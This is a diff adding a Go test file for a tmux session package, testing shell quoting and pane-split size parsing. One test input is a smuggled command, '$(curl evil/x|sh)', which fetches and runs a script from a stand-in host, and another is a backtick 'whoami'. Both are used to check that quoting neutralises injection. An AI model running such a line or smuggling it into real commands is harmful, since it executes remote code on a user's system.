@@ -0,0 +1,74 @@
+// The MIT License (MIT)
+// Copyright (C) 2019-2023 Georgiy Komarov <jubnzv@gmail.com>
+
+package tmux
+
+import "testing"
+
+func TestShellQuote(t *testing.T) {
+	tests := []struct {
+		name  string
+		input string
+		want  string
+	}{
+		{name: "plain path", input: "/home/user/project", want: "'/home/user/project'"},
+		{name: "embedded single quote", input: "it's", want: `'it'\''s'`},
+		{
+			name:  "command substitution is neutralised",
+			input: "$(curl evil/x|sh)",
+			want:  `'$(curl evil/x|sh)'`,
+		},
+		{name: "backticks are neutralised", input: "`whoami`", want: "'`whoami`'"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := ShellQuote(tt.input); got != tt.want {
+				t.Errorf("ShellQuote(%q) = %s, want %s", tt.input, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSplitPaneOpts(t *testing.T) {
+	tests := []struct {
+		name string
+		pane Pane
+		want SplitPaneOpts
+	}{
+		{
+			name: "defaults to vertical with no size",
+			pane: Pane{},
+			want: SplitPaneOpts{Horizontal: false},
+		},
+		{
+			name: "horizontal split",
+			pane: Pane{Split: "horizontal"},
+			want: SplitPaneOpts{Horizontal: true},
+		},
+		{
+			name: "percent size",
+			pane: Pane{Size: "30%"},
+			want: SplitPaneOpts{Percent: 30},
+		},
+		{
+			name: "absolute size in lines/columns",
+			pane: Pane{Size: "15"},
+			want: SplitPaneOpts{Size: 15},
+		},
+		{
+			name: "malformed size is ignored",
+			pane: Pane{Size: "big"},
+			want: SplitPaneOpts{},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := splitPaneOpts(tt.pane)
+			if *got != tt.want {
+				t.Errorf("splitPaneOpts() = %+v, want %+v", *got, tt.want)
+			}
+		})
+	}
+}